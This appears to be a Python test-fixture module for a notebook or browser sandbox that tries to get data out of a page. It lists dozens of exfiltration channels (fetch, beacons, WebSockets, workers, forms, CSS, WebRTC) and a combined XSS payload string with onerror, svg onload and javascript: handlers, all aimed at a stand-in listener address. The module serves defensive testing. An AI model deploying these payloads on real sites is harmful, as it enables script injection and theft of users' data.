"""What a script in the page, or an output in a notebook, can try in order to get bytes out of the browser.

Every way calls an address of its own at the listener, so that a failure names the way. A script
stands for the worst case: something got past the sanitiser and runs with all rights of the page.
"""

from typing import Final

SCRIPT: Final = """async ({there, port}) => {
  const at = (name) => `${there}/${name}`;
  const say = (tag, set) => { const part = Object.assign(document.createElement(tag), set);
    document.body.append(part); return part; };
  const style = (css) => say("style", {textContent: css});
  const ways = {
    fetch: () => fetch(at("fetch"), {mode: "no-cors", method: "POST", body: "x"}),
    read: async () => { globalThis.hanareRead = await (await fetch(at("read"))).text(); },
    xhr: () => { const x = new XMLHttpRequest(); x.open("POST", at("xhr")); x.send("x"); },
    beacon: () => navigator.sendBeacon(at("beacon"), "x"),
    events: () => new EventSource(at("events")),
    socket: () => new WebSocket(`ws://localhost:${port}/socket`),
    img: () => say("img", {src: at("img")}),
    css: () => { style(`.hanare-leak { background: url(${at("css")}) }`); say("div", {className: "hanare-leak", textContent: "."}); },
    import: () => style(`@import url(${at("import")});`),
    font: () => { style(`@font-face { font-family: leak; src: url(${at("font")}) }`);
      say("span", {style: "font-family: leak", textContent: "a"}); },
    sheet: () => say("link", {rel: "stylesheet", href: at("sheet")}),
    prefetch: () => say("link", {rel: "prefetch", href: at("prefetch")}),
    preload: () => say("link", {rel: "preload", as: "image", href: at("preload")}),
    module: () => say("link", {rel: "modulepreload", href: at("module")}),
    manifest: () => say("link", {rel: "manifest", href: at("manifest")}),
    icon: () => say("link", {rel: "icon", href: at("icon")}),
    script: () => say("script", {src: at("script")}),
    dynamic: () => import(at("dynamic")),
    frame: () => say("iframe", {src: at("frame")}),
    object: () => say("object", {data: at("object")}),
    embed: () => say("embed", {src: at("embed")}),
    video: () => say("video", {src: at("video"), autoplay: true}),
    audio: () => say("audio", {src: at("audio"), autoplay: true}),
    form: () => { const frame = say("iframe", {name: "hanare-form"}); const form = say("form",
      {method: "post", action: at("form"), target: frame.name}); form.submit(); },
    blank: () => { const form = say("form", {method: "post", action: at("blank"), target: "_blank"}); form.submit(); },
    open: () => globalThis.open(at("open")),
    link: () => say("a", {href: at("link"), target: "_blank", textContent: "."}).click(),
    ping: () => say("a", {href: "#", ping: at("ping"), textContent: "."}).click(),
    worker: () => { const code = new Blob([`fetch("${at("worker")}", {mode: "no-cors"})`], {type: "text/javascript"});
      new Worker(URL.createObjectURL(code)); },
    imported: () => { const code = new Blob([`importScripts("${at("imported")}")`], {type: "text/javascript"});
      new Worker(URL.createObjectURL(code)); },
    service: async () => { await navigator.serviceWorker.register(`${location.pathname.split("/lab")[0]}/api/contents?content=0`); },
    blob: () => say("a", {href: URL.createObjectURL(new Blob(["x"])), download: "blob.csv", textContent: "."}).click(),
    data: () => say("a", {href: "data:text/csv,x", download: "data.csv", textContent: "."}).click(),
    saved: () => say("iframe", {src: URL.createObjectURL(new Blob(["x"], {type: "application/octet-stream"}))}),
  };
  const seen = {};
  for (const [name, way] of Object.entries(ways)) {
    try { await Promise.race([way(), new Promise((done) => setTimeout(done, 1500))]); seen[name] = "done"; }
    catch (error) { seen[name] = error.name; }
  }
  return seen;
}"""

PEER: Final = """async (port) => {
  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((done) => setTimeout(done, 2500));
}"""

MARKED: Final = "globalThis.hanareRan"

_RUN: Final = (
    "globalThis.hanareRan=1;fetch('THERE/run',{mode:'no-cors'});"
    "var a=document.createElement('a');a.download='x.csv';a.href=window.URL.createObjectURL(new Blob(['x']));a.click();"
)

OUTPUT: Final = """<p>HANARE-OUTPUT</p>
<script>RUN</script><img src="x" onerror="RUN"><svg onload="RUN"><a href="javascript:RUN"><text>s</text></a>
<image href="THERE/svg"/><use href="THERE/use#x"/><foreignObject><iframe src="THERE/foreign"></iframe></foreignObject></svg>
<img src="THERE/img" srcset="THERE/srcset 2x"><picture><source srcset="THERE/picture"><img></picture>
<iframe src="THERE/frame"></iframe><iframe srcdoc="<script>parent.hanareRan=1;parent.location='THERE/srcdoc'</script>"></iframe>
<form id="f" method="post" action="THERE/form"><button id="b" autofocus onfocus="this.click()">send</button></form>
<meta http-equiv="refresh" content="0;url=THERE/refresh"><base href="THERE/base/">
<link rel="stylesheet" href="THERE/sheet"><link rel="preconnect" href="THERE"><link rel="dns-prefetch" href="THERE">
<link rel="prefetch" href="THERE/prefetch"><style>@import url(THERE/import); .hanare-x{background:url(THERE/css)}</style>
<div class="hanare-x" style="background:url(THERE/inline)">x</div><table background="THERE/table"><tr><td>x</td></tr></table>
<object data="THERE/object"></object><embed src="THERE/embed"><video src="THERE/video" poster="THERE/poster" autoplay></video>
<audio src="THERE/audio" autoplay></audio><input type="image" src="THERE/input"><body background="THERE/body">
<a href="THERE/link" target="_blank">link</a><a href="THERE/top">top</a><a href="javascript:RUN">run</a>
<a download="x.csv" href="data:text/csv,x">save</a><a ping="THERE/ping" href="#x">ping</a>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">m</maction></math>
<details open ontoggle="RUN"><summary>d</summary></details>""".replace("RUN", _RUN.replace('"', "'")).replace(
    "\n", " "
)
"""Every element that loads, sends, saves or runs, in one piece of HTML."""

RUNS: Final = f"<img src='x' onerror=\"{_RUN}\">"

NAVIGATES: Final = (
    "<img src='x' onerror=\"globalThis.hanareRan=1;setTimeout(()=>location='THERE/navigated',300)\">"
)


def output(there: str) -> str:
    return OUTPUT.replace("THERE", there)
